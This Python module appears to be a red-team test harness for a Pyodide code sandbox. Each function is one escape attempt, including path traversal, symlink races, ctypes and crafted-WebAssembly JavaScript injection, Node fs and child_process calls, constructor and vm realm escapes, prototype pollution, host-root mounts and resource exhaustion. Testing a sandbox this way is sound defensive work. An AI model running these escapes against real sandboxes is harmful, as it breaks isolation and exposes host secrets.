"""Attacks by Python in the guest: through Python itself, ctypes, WebAssembly, and the JavaScript that Pyodide hands out.

Each function is one attempt; its docstring is its title; what it returns is what it got hold of. It may raise. Runs in
Pyodide, as cells of a session do. `t` is what the attacker knows (world.py). It is long because it is one program: a
guest gets it as one cell.
"""

# ruff: noqa: PERF401, E501, SIM115, RET503

import json
import os


def js():
    import js

    return js


def to_js(value):
    from pyodide.ffi import to_js

    return to_js(value)


def node(name):
    return js().process.getBuiltinModule(name)


def _wait(promise):
    from pyodide.ffi import run_sync

    return run_sync(promise)


def control(t):
    """control"""
    open("/workspace/control", "w").write("works")


# -- through Python


def open_file(t):
    """open() of the secret"""
    return open(t["secret"]).read()


def open_passwd_through_proc(t):
    """open() through /proc/self/root"""
    return open(f"/proc/self/root{t['secret']}").read()


def open_dotdot(t):
    """../ out of the workspace"""
    return open("/workspace/" + "../" * 20 + t["secret"].lstrip("/")).read()


def host_link(t):
    """a link out of the workspace that the host made"""
    return open("/workspace/link-of-the-host").read()


def make_link(t):
    """os.symlink out of the workspace, then read"""
    os.symlink(t["secret"], "/workspace/link")
    return open("/workspace/link").read()


def make_link_race(t):
    """a directory that becomes a link between check and use"""
    for _ in range(50):
        try:
            os.makedirs("/workspace/race/outside", exist_ok=True)
            os.rename("/workspace/race", "/workspace/race-old")
            os.symlink(t["outside"], "/workspace/race")
            return open("/workspace/race/secret.txt").read()
        finally:
            pass


def hard_link(t):
    """os.link of the secret into the workspace"""
    os.link(t["secret"], "/workspace/hard")
    return open("/workspace/hard").read()


def os_environ(t):
    """os.environ"""
    return json.dumps(dict(os.environ))


def os_system(t):
    """os.system"""
    return str(os.system(f"cat {t['secret']} > /workspace/got"))


def posix_system(t):
    """posix.system, below our replacement"""
    import posix

    posix.system(f"touch {t['outside']}/touched; cp {t['secret']} {t['workspace']}/got")
    return open("/workspace/got").read()


def subprocess_run(t):
    """subprocess.run"""
    import subprocess

    return subprocess.run(["cat", t["secret"]], capture_output=True, text=True).stdout


def os_kill(t):
    """os.kill of another process"""
    os.kill(t["victim"], 15)


def python_socket(t):
    """socket to loopback"""
    import socket

    with socket.create_connection(("127.0.0.1", t["ports"]["tcp4"]), timeout=2) as connection:
        connection.sendall(b"python_socket")


def urllib_request(t):
    """urllib to loopback"""
    import urllib.request

    return urllib.request.urlopen(f"http://127.0.0.1:{t['ports']['tcp4']}/", timeout=2).read().decode()


def pyfetch(t):
    """pyodide.http.pyfetch to loopback"""
    from pyodide.http import pyfetch

    return _wait(pyfetch(f"http://127.0.0.1:{t['ports']['tcp4']}/pyfetch"))


def open_url(t):
    """pyodide.http.open_url of a file"""
    from pyodide.http import open_url

    return open_url(f"file://{t['secret']}").read()


# -- through ctypes and WebAssembly


def ctypes_open(t):
    """ctypes: open and read"""
    import ctypes

    libc = ctypes.CDLL(None)
    fd = libc.open(t["secret"].encode(), 0)
    data = ctypes.create_string_buffer(200)
    libc.read(fd, data, 200)
    return data.value.decode()


def ctypes_system(t):
    """ctypes: system"""
    import ctypes

    ctypes.CDLL(None).system(f"touch {t['outside']}/touched".encode())


def ctypes_run_script(t):
    """ctypes: emscripten_run_script_string"""
    import ctypes

    run = ctypes.CDLL(None).emscripten_run_script_string
    run.restype = ctypes.c_char_p
    code = f"globalThis.process.getBuiltinModule('fs').readFileSync({json.dumps(t['secret'])}, 'utf8')"
    return (run(code.encode()) or b"").decode()


def ctypes_run_script_environment(t):
    """ctypes: emscripten_run_script_string, environment"""
    import ctypes

    run = ctypes.CDLL(None).emscripten_run_script_string
    run.restype = ctypes.c_char_p
    return (run(b"JSON.stringify(globalThis.process.env)") or b"").decode()


def ctypes_asm_const(t):
    """ctypes: emscripten_asm_const_int"""
    import ctypes

    code = f"globalThis.process.getBuiltinModule('fs').writeFileSync({json.dumps(t['outside'] + '/asm')}, 'x')\0"
    ctypes.CDLL(None).emscripten_asm_const_int(code.encode(), b"\0", 0)


def crafted_so(t):
    """a crafted .so whose __em_js__ text is JavaScript"""
    import ctypes

    code = f"globalThis.process.getBuiltinModule('fs').writeFileSync({json.dumps(t['outside'] + '/so')}, 'x')"
    text = f"<::>{{}}; {code}".encode() + b"\0"

    def leb(n):
        out = b""
        while True:
            byte, n = n & 127, n >> 7
            out += bytes([byte | (128 if n else 0)])
            if not n:
                return out

    def sleb(n):
        out = b""
        while True:
            byte, n = n & 127, n >> 7
            if n == 0 and not byte & 64:
                return out + bytes([byte])
            out += bytes([byte | 128])

    def name(s):
        return leb(len(s)) + s.encode()

    def section(number, data):
        return bytes([number]) + leb(len(data)) + data

    info = leb(len(text)) + leb(0) + leb(0) + leb(0)
    dylink = name("dylink.0") + bytes([1]) + leb(len(info)) + info
    imports = (
        leb(2) + name("env") + name("memory") + b"\x02\x00\x01" + name("env") + name("__memory_base") + b"\x03\x7f\x00"
    )
    globals_ = leb(1) + b"\x7f\x00\x41" + sleb(0) + b"\x0b"
    exports = leb(1) + name("__em_js__evil") + b"\x03\x01"
    data = leb(1) + b"\x00\x23\x00\x0b" + leb(len(text)) + text
    module = (
        b"\0asm\x01\0\0\0"
        + section(0, dylink)
        + section(2, imports)
        + section(6, globals_)
        + section(7, exports)
        + section(11, data)
    )
    open("/tmp/evil.so", "wb").write(module)
    ctypes.CDLL("/tmp/evil.so")


def huge_wasm_memory(t):
    """WebAssembly.Memory of 60,000 pages, written"""
    j = js()
    kept = []
    for _ in range(4):
        memory = j.WebAssembly.Memory.new(to_js_object({"initial": 30_000}))
        j.Uint8Array.new(memory.buffer).fill(1)
        kept.append(memory)
    return "it took 7 GB: BREACH"


def to_js_object(value):
    from pyodide.ffi import to_js

    return to_js(value, dict_converter=js().Object.fromEntries)


# -- through JavaScript


def js_read(t):
    """js: fs.readFileSync"""
    return str(node("fs").readFileSync(t["secret"], "utf8"))


def js_write(t):
    """js: fs.writeFileSync outside"""
    node("fs").writeFileSync(t["outside"] + "/written", "x")


def js_environment(t):
    """js: process.env"""
    return str(js().JSON.stringify(js().process.env))


def js_spawn(t):
    """js: child_process.execFileSync"""
    return str(node("child_process").execFileSync("cat", to_js([t["secret"]]), to_js_object({"encoding": "utf8"})))


def js_binding(t):
    """js: process.binding('fs')"""
    return str(js().process.binding("fs").internalModuleReadJSON(t["secret"]))


def js_kill(t):
    """js: process.kill of another process"""
    js().process.kill(t["victim"], "SIGTERM")


def js_kill_parent(t):
    """js: may it signal the kernel process?"""
    js().process.kill(t["parent"], 0)
    return "BREACH: it may"


def js_connect(t):
    """js: net.connect"""
    _connect(t["ports"]["tcp4"], "127.0.0.1")


def _connect(*where):
    from pyodide.ffi import create_once_callable, create_proxy

    net = node("net")

    def body(resolve, reject):
        connection = net.connect(*where)
        connection.on("error", create_proxy(lambda error: reject(error)))
        connection.on("connect", create_proxy(lambda: (connection.end("js_connect"), resolve(1))))

    _wait(js().Promise.new(create_once_callable(body)))


def js_unix(t):
    """js: net.connect to a Unix socket in the workspace"""
    _connect(t["unix_inside"])


def js_fetch(t):
    """js: fetch"""
    _wait(js().fetch(f"http://127.0.0.1:{t['ports']['tcp4']}/js_fetch"))


def js_datagram(t):
    """js: dgram"""
    from pyodide.ffi import create_once_callable

    dgram = node("dgram")

    def body(resolve, reject):
        own = dgram.createSocket("udp4")
        own.on("error", create_once_callable(lambda error: reject(error)))
        own.send("js_datagram", t["ports"]["udp4"], "127.0.0.1", create_once_callable(lambda *rest: resolve(1)))

    _wait(js().Promise.new(create_once_callable(body)))


def js_worker(t):
    """js: a worker thread"""
    code = f"require('fs').writeFileSync({json.dumps(t['outside'] + '/worker')}, 'x')"
    from pyodide.ffi import create_once_callable

    threads = node("worker_threads")

    def body(resolve, reject):
        worker = threads.Worker.new(code, to_js_object({"eval": True}))
        worker.on("exit", create_once_callable(lambda code: resolve(1)))

    _wait(js().Promise.new(create_once_callable(body)))


def js_inspector(t):
    """js: open the inspector"""
    node("inspector").open(0, "127.0.0.1")
    return str(node("inspector").url())


def js_dlopen(t):
    """js: process.dlopen"""
    j = js()
    try:
        j.process.dlopen(to_js_object({"exports": {}}), "/lib/x86_64-linux-gnu/libm.so.6")
    except Exception as error:
        if "did not self-register" in str(error):
            return "BREACH: native code was loaded"
        raise


def js_sqlite(t):
    """js: node:sqlite outside"""
    node("sqlite").DatabaseSync.new(t["outside"] + "/database").exec("create table a (b)")


def js_report(t):
    """js: process.report outside"""
    js().process.report.writeReport(t["outside"] + "/report.json")


def js_heap_snapshot(t):
    """js: v8.writeHeapSnapshot outside"""
    node("v8").writeHeapSnapshot(t["outside"] + "/heap")


def js_v8_flags(t):
    """js: v8.setFlagsFromString, then eval"""
    node("v8").setFlagsFromString("--allow-natives-syntax")
    return str(js().eval(f"process.getBuiltinModule('fs').readFileSync({json.dumps(t['secret'])}, 'utf8')"))


def js_symlink(t):
    """js: fs.symlinkSync in the workspace"""
    fs = node("fs")
    fs.symlinkSync(t["secret"], t["workspace"] + "/link")
    return str(fs.readFileSync(t["workspace"] + "/link", "utf8"))


def js_host_link(t):
    """js: a link that the host made"""
    return str(node("fs").readFileSync(t["workspace"] + "/link-of-the-host", "utf8"))


def js_descriptors(t):
    """js: read every descriptor that is open"""
    fs, found = node("fs"), []
    for fd in range(6, 300):
        try:
            buffer = js().Uint8Array.new(100)
            fs.readSync(fd, buffer, 0, 100, 0)
            found.append(bytes(buffer.to_py()).decode("latin-1"))
        except Exception:  # noqa: BLE001  # most are not open
            pass
    return "".join(found)


def js_chmod(t):
    """js: fs.chmodSync outside"""
    node("fs").chmodSync(t["secret"], 0o666)


def js_eval(t):
    """js: eval"""
    return str(js().eval(f"globalThis.process.getBuiltinModule('fs').readFileSync({json.dumps(t['secret'])}, 'utf8')"))


def constructor(t):
    """the constructor of a constructor"""
    code = f"return globalThis.process.getBuiltinModule('fs').readFileSync({json.dumps(t['secret'])}, 'utf8')"
    return str(to_js([1]).constructor.constructor(code)())


def run_js(t):
    """pyodide.code.run_js"""
    from pyodide.code import run_js

    return str(run_js(f"globalThis.process.getBuiltinModule('fs').readFileSync({json.dumps(t['secret'])}, 'utf8')"))


def mount_root(t):
    """pyodide_js.mountNodeFS of /"""
    import pyodide_js

    pyodide_js.mountNodeFS("/host", "/")
    return open("/host" + t["secret"]).read()


def mount_outside_writable(t):
    """pyodide_js.mountNodeFS, then write"""
    import pyodide_js

    pyodide_js.mountNodeFS("/out", t["outside"])
    open("/out/written", "w").write("x")


def nodefs_parent(t):
    """a NODEFS node with the name .."""
    import pyodide_js

    fs = pyodide_js.FS
    node_ = fs.lookupPath("/workspace").node
    parts = ["..", "..", "outside", "secret.txt"]
    for part in parts:
        node_ = fs.filesystems.NODEFS.createNode(node_, part, 0o100644, 0)
    return open_node(fs, node_)


def open_node(fs, node_):
    path = str(fs.filesystems.NODEFS.realPath(node_))
    import pyodide_js

    pyodide_js.mountNodeFS("/sneaked", path.rsplit("/", 1)[0])
    return open("/sneaked/secret.txt").read()


def pollute_prototypes(t):
    """prototype pollution of the host's own code"""
    j = js()
    got = []
    from pyodide.ffi import create_proxy

    handler = create_proxy(lambda *rest: got.append(str(rest)))
    descriptor = to_js_object({"get": handler, "configurable": True})
    j.Object.defineProperty(j.Object.prototype, "mode", descriptor)
    j.Object.defineProperty(j.Object.prototype, "permission", descriptor)
    try:
        return str(node("fs").readFileSync(t["secret"], "utf8"))
    finally:
        j.Reflect.deleteProperty(j.Object.prototype, "mode")
        j.Reflect.deleteProperty(j.Object.prototype, "permission")


def pollute_path(t):
    """replace String.prototype.startsWith, by which paths may be checked"""
    j = js()
    kept = j.String.prototype.startsWith
    from pyodide.ffi import create_proxy

    j.String.prototype.startsWith = create_proxy(lambda *rest: True)
    try:
        return str(node("fs").readFileSync(t["secret"], "utf8"))
    finally:
        j.String.prototype.startsWith = kept


def second_realm(t):
    """a second realm: node:vm"""
    return str(
        node("vm").runInNewContext(
            f"this.constructor.constructor('return process')().getBuiltinModule('fs').readFileSync({json.dumps(t['secret'])}, 'utf8')"
        )
    )


# -- the folder above the workspace


def above_through_the_mount(t):
    """its mount's root one folder up, then write"""
    import pyodide_js

    options = pyodide_js.FS.lookupPath("/workspace").node.mount.opts
    kept = options.root
    options.root = t["above"]
    try:
        open("/workspace/packaging.py", "w").write("x")
    finally:
        options.root = kept


def above_through_node(t):
    """js: fs.writeFileSync above the workspace"""
    node("fs").writeFileSync(t["above"] + "/packaging.py", "x")


def above_after_chmod(t):
    """js: fs.chmodSync of the folder above, then write"""
    node("fs").chmodSync(t["above"], 0o777)
    node("fs").writeFileSync(t["above"] + "/packaging.py", "x")


def offered_through_the_mount(t):
    """a mount of the folder of offered tools made writable, then write"""
    import pyodide_js

    pyodide_js.FS.lookupPath("/servers").node.mount.opts.readOnly = False
    open("/servers/index.json", "w").write("x")


def offered_through_node(t):
    """js: fs.writeFileSync of a file of offered tools"""
    node("fs").writeFileSync(t["offered"] + "/index.json", "x")


def rename_workspace(t):
    """js: rename the workspace itself"""
    node("fs").renameSync(t["workspace"], t["above"] + "/elsewhere")


# -- bounds


def sparse_file(t):
    """a sparse file of 100 GB"""
    with open("/workspace/sparse", "wb") as file:
        file.truncate(100 << 30)


def sparse_file_seek(t):
    """a byte at 100 GB"""
    with open("/workspace/sparse-too", "wb") as file:
        file.seek(100 << 30)
        file.write(b"x")


def many_files(t):
    """open() in a loop"""
    kept = []
    for number in range(2000):
        kept.append(open(f"/workspace/{number}", "w"))
    return "BREACH: it has 2,000 open files"


def much_memory(t):
    """bytearray(10**10)"""
    kept = bytearray(10**10)
    return f"BREACH: it has {len(kept)} bytes"


def array_buffers(t):
    """ArrayBuffers of 4 GB"""
    kept = [js().Uint8Array.new(1 << 30).fill(1) for _ in range(4)]
    return f"BREACH: it has {len(kept)} GB"


ATTACKS = {
    name: value
    for name, value in list(globals().items())
    if callable(value)
    and getattr(value, "__code__", None)
    and value.__code__.co_varnames[:1] == ("t",)
    and value is not control
}


def attempt(name, t):
    try:
        return str(globals()[name](t))
    except BaseException as error:  # noqa: BLE001  # whatever stopped it, its text is the answer
        return f"{type(error).__name__}: {error}"[:300]
